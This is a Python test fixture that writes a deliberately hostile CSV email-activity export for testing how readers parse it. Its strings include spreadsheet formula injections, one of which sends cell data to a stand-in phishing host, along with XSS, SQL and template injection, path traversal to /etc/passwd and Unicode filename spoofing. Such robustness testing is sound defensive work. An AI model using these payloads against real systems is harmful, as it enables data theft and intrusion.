"""An activity export in which all that a stranger can choose is an attack, and some lines are broken."""

import csv
import io
from datetime import datetime, timedelta
from pathlib import Path
from random import Random

from samples.activity_files import COLUMNS, row
from samples.clock import utc
from samples.ids import new_ids
from samples.model import Event, Message, Occasion
from samples.postman import ids_of

_BEGIN = utc("2026-11-15 09:00")
_EXTRA = "x_future_column"
_STRANGER = Occasion("hostile", "no-reply@aozora-store.example", "", ("form",))

_SUBJECTS = (
    "[Your invoice](http://phish.example/login) is ready",
    "![tracking](http://phish.example/pixel.png) <- an image",
    "<script>alert('subject')</script>",
    '=HYPERLINK("http://phish.example/?leak="&A1,"Click me")',
    "+1+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    ":red[x] $x$ :material/mail: **bold** `code` [x]{.cls}",
    "../../../../etc/passwd",
    "..\\..\\con.txt:stream%00",
    "invoice \u202egpj.exe \u200e\u2066hidden\u2069",
    "'; DROP TABLE events; --",
    "{{7*7}} ${7*7} <%= 7*7 %> %(x)s {0.__class__}",
    "📦 ご注文ありがとうございます 🎉👨‍👩‍👧‍👦",
    "\x1b[31mred\x1b[0m \x07 bell",
    "long " * 1024,
)
_ADDRESSES = {
    3: "=cmd|'/c'!a1@formula.example",
    5: "-2@formula.example",
    9: "**bold**_md_@md.example",
    13: "o'drop--@sql.example",
    14: "{{7*7}}@template.example",
}
_REASONS = (
    (
        "bounce",
        "bounce",
        '550 5.1.1 <img src=x onerror=alert(1)>, "unknown" user\nsecond line of the reply</td></table>',
    ),
    ("bounce", "blocked", "=1+1 550 5.7.1 [details](javascript:alert(1)) :red[refused] $$x$$"),
    ("dropped", "", "Bounced Address ![x](http://phish.example/p.png)"),
)
_CERTAIN = "hostile"


def _message(rng: Random, number: int, subject: str, recipient: str = "") -> Message:
    sent = _BEGIN + timedelta(minutes=number)
    address = recipient or f"victim{number:02d}@example.com"
    return Message(_STRANGER, address, subject, sent, _CERTAIN, "none", "", new_ids(rng, sent), None)


def _sound(rng: Random) -> list[Message]:
    """Well-formed lines: strange texts, but every reader must understand them."""
    told: list[Message] = []
    for number, subject in enumerate(_SUBJECTS):
        message = _message(rng, number, subject, _ADDRESSES.get(number, ""))
        reply = f"250 2.0.0 Ok: queued as 4dHostile{number:05d}"
        message.events.append(Event(message.sent, "delivered", reply, ip="192.0.2.31"))
        told.append(message)
    for number, (kind, bounce_type, reason) in enumerate(_REASONS, start=len(_SUBJECTS)):
        message = _message(rng, number, "Attack in the reason")
        message.events.append(Event(message.sent, kind, reason, type=bounce_type))
        told.append(message)
    return told


def _cells(message: Message, moment: datetime, **changes: str) -> dict[str, str]:
    event = Event(moment, "processed")
    return row(message, event, first_of_kind=True) | {_EXTRA: "nobody knows"} | changes


def _doubtful(rng: Random) -> list[dict[str, str]]:
    """Lines whose shape is right and whose content is not: a reader may refuse them, but must say so."""
    made = [_message(rng, number, "A doubtful line") for number in range(30, 35)]
    return [
        _cells(made[0], made[0].sent, email="line\nbreak@example.com"),
        _cells(made[1], made[1].sent, processed="2026-02-30 25:61:00.000"),
        _cells(made[2], made[2].sent, subject="NUL \x00 inside"),
        _cells(made[3], made[3].sent, email='"<script>alert(1)</script>"@evil.example'),
        _cells(made[4], made[4].sent, email="=1+1"),
    ]


def _unheard_of(rng: Random) -> tuple[Message, list[dict[str, str]]]:
    """A message with one event word that no reader knows; what is known of it is only its beginning."""
    message = _message(rng, 40, "An event nobody has heard of")
    message.events.append(Event(message.sent, "processed"))
    later = message.sent + timedelta(seconds=9)
    return message, [_cells(message, message.sent), _cells(message, later, event="teleported")]


def write(folder: Path, rng: Random) -> list[Message]:
    """Write the file; returns the messages whose lines are sound, for the truth."""
    sound, doubtful = _sound(rng), _doubtful(rng)
    odd, odd_rows = _unheard_of(rng)
    text = io.StringIO()
    writer = csv.DictWriter(text, [*COLUMNS, _EXTRA], quoting=csv.QUOTE_ALL, lineterminator="\n")
    writer.writeheader()
    for message in sound:
        writer.writerow(row(message, message.events[0], first_of_kind=True) | {_EXTRA: ""})
    writer.writerows(odd_rows + doubtful)
    last = ids_of(_message(rng, 50, ""))
    text.write(f'"2026-11-15 10:00:00.000","{last.message_id}","processed","","{last.x_message_id}","","never closed')
    (folder / "hostile.csv").write_bytes(text.getvalue().encode("utf-8"))
    return [*sound, odd]
